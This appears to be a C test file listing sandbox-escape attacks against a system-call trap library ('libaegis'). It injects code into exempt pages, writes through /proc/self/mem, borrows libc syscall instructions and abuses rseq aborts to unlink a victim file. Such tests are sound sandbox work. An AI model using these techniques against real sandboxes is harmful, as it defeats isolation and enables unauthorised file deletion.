#define _GNU_SOURCE
#include <linux/rseq.h>
#include <sys/shm.h>
#include <sys/uio.h>

#include "bypass.h"

int mapping(const char *word, int skip, uintptr_t *from, uintptr_t *to)
{
    char line[512];
    FILE *maps = fopen("/proc/self/maps", "r");
    int found = 0;
    while (!found && maps && fgets(line, sizeof line, maps))
        if (strstr(line, word) && skip-- == 0 && sscanf(line, "%lx-%lx", from, to) == 2)
            found = 1;
    if (maps)
        fclose(maps);
    return found;
}
const unsigned char deletes[] = {0xb8, 87, 0, 0, 0, 0x0f, 0x05, 0xc3};
uintptr_t foreign_page(int n)
{
    uintptr_t from, to;
    for (int i = 0; mapping(" r-xp ", i, &from, &to); i++)
        if (((uintptr_t)&foreign_page < from || (uintptr_t)&foreign_page >= to) && n-- == 0)
            return to - 4096;
    return 0;
}
static void run_at(uintptr_t at)
{
    memcpy((void *)at, deletes, sizeof deletes);
    ((long (*)(const char *))at)(victim);
}
/* Write our own instructions over code that is exempt, by way of protection. */
static void overwritten_by(long call)
{
    uintptr_t page;
    for (int i = 0; (page = foreign_page(i)); i++)
        if (raw6(call, (long)page, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, -1, 0, 0) == 0)
            run_at(page + 4000);
}
static void overwritten(void) { overwritten_by(SYS_mprotect); }
static void overwritten_by_key(void) { overwritten_by(SYS_pkey_mprotect); }
static void mapped_over(void)
{
    uintptr_t page;
    for (int i = 0; (page = foreign_page(i)); i++)
        if (raw6(SYS_mmap, (long)page, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) == (long)page)
            run_at(page);
}
static void moved_over(void)
{
    uintptr_t page;
    char *own = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    memcpy(own, deletes, sizeof deletes);
    for (int i = 0; (page = foreign_page(i)); i++)
        if (raw6(SYS_mremap, (long)own, 4096, 4096, 3 /* MAYMOVE, FIXED */, (long)page, 0) == (long)page)
            ((long (*)(const char *))page)(victim);
}
static void attached_over(void)
{
    uintptr_t page;
    int segment = shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0700);
    for (int i = 0; (page = foreign_page(i)); i++)
        if (raw(SYS_shmat, segment, page, SHM_REMAP | SHM_EXEC) == (long)page) {
            shmctl(segment, IPC_RMID, NULL);
            run_at(page);
        }
    shmctl(segment, IPC_RMID, NULL);
}
/* The trap's own pages away from where they are expected, or emptied. */
static void moved_away(void)
{
    char *room = mmap(NULL, 4096, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    uintptr_t page;
    for (int i = 0; (page = foreign_page(i)); i++)
        raw6(SYS_mremap, (long)page, 4096, 4096, 3, (long)room, 0);
    gone();
}
static void emptied(void)
{
    uintptr_t page;
    for (int i = 0; (page = foreign_page(i)); i++)
        raw(SYS_madvise, page, 4096, MADV_DONTNEED);
    gone();
}
/* Through the kernel's view of our memory, which asks nobody for protection. */
static void memory_by(const char *path)
{
    volatile uintptr_t function = (uintptr_t)&getppid;
    int fd = open(path, O_RDWR);
    if (fd >= 0 && pwrite(fd, deletes, sizeof deletes, (off_t)function) == (ssize_t)sizeof deletes)
        ((long (*)(const char *))function)(victim);
}
static void own_memory(void) { memory_by("/proc/self/mem"); }
static void thread_memory(void) { memory_by("/proc/thread-self/mem"); }
static void written_by_kernel(void)
{
    volatile uintptr_t function = (uintptr_t)&getppid;
    struct iovec here = {(void *)deletes, sizeof deletes}, there = {(void *)function, sizeof deletes};
    if (process_vm_writev(getpid(), &here, 1, &there, 1, 0) == (ssize_t)sizeof deletes)
        ((long (*)(const char *))function)(victim);
}
static void unmapped(void)
{
    uintptr_t from, to;
    while (mapping("libaegis", 0, &from, &to) && munmap((void *)from, to - from) == 0)
        ;
    gone();
}
/* Jump to a system call that is exempt: libc's own, or our loader's. */
long borrowed(long number, long a, long b)
{
    uintptr_t from, to;
    long result = -ENOSYS;
    for (int i = 0; result == -ENOSYS && mapping(" r-xp ", i, &from, &to); i++)
        for (const unsigned char *at = (const unsigned char *)from; at + 3 < (const unsigned char *)to; at++)
            if (at[0] == 0x0f && at[1] == 0x05 && at[2] == 0xc3) {
                if ((uintptr_t)at > (uintptr_t)&borrowed - 65536 && (uintptr_t)at < (uintptr_t)&borrowed + 65536)
                    continue; /* our own */
                __asm__ volatile("call *%[at]" : "=a"(result) : "a"(number), "D"(a), "S"(b), [at] "r"(at) : "rcx", "r11", "memory");
                if (result != -ENOSYS)
                    break;
            }
    return result;
}
static void borrowed_call(void) { borrowed(UNLINK, (long)victim, 0); }

/* The kernel jumps for us: to where a restartable sequence goes when it is interrupted, which here is an exempt instruction. */
static void restarted(void)
{
    extern const ptrdiff_t __rseq_offset __attribute__((weak));
    uintptr_t from, to;
    static struct rseq area __attribute__((aligned(32)));
    static struct rseq_cs sequence __attribute__((aligned(32)));
    if (&__rseq_offset)
        raw6(SYS_rseq, (long)__builtin_thread_pointer() + __rseq_offset, 32, RSEQ_FLAG_UNREGISTER, 0x53053053, 0, 0);
    for (int i = 0; mapping(" r-xp ", i, &from, &to); i++)
        for (const unsigned char *at = (const unsigned char *)from + 4; at + 3 < (const unsigned char *)to; at++) {
            uint32_t word;
            if (at[0] != 0x0f || at[1] != 0x05 || at[2] != 0xc3 || llabs((intptr_t)at - (intptr_t)&restarted) < 65536)
                continue;
            memcpy(&word, at - 4, sizeof word);
            if (raw6(SYS_rseq, (long)&area, sizeof area, 0, (long)word, 0, 0) != 0)
                return;
            __asm__ volatile("lea 1f(%%rip), %%rax\n\tmov %%rax, 8(%[sequence])\n\tmovq $2, 16(%[sequence])\n\tmov %[at], 24(%[sequence])\n\t"
                             "sub $128, %%rsp\n\tlea 2f(%%rip), %%rax\n\tpush %%rax\n\tmov $87, %%eax\n\tmov %[sequence], 8(%[area])\n"
                             "1:\tjmp 1b\n2:\tadd $128, %%rsp"
                             : : [sequence] "r"(&sequence), [area] "r"(&area), [at] "r"(at), "D"(victim) : "rax", "rcx", "r11", "memory");
            return;
        }
}

const struct attack attacks_of_memory[] = {
    {"overwritten", overwritten}, {"overwritten-by-key", overwritten_by_key}, {"mapped-over", mapped_over},
    {"moved-over", moved_over}, {"attached-over", attached_over}, {"moved-away", moved_away}, {"emptied", emptied},
    {"own-memory", own_memory}, {"thread-memory", thread_memory}, {"written-by-kernel", written_by_kernel},
    {"unmapped", unmapped}, {"borrowed", borrowed_call}, {"restarted", restarted},
    {NULL, NULL},
};
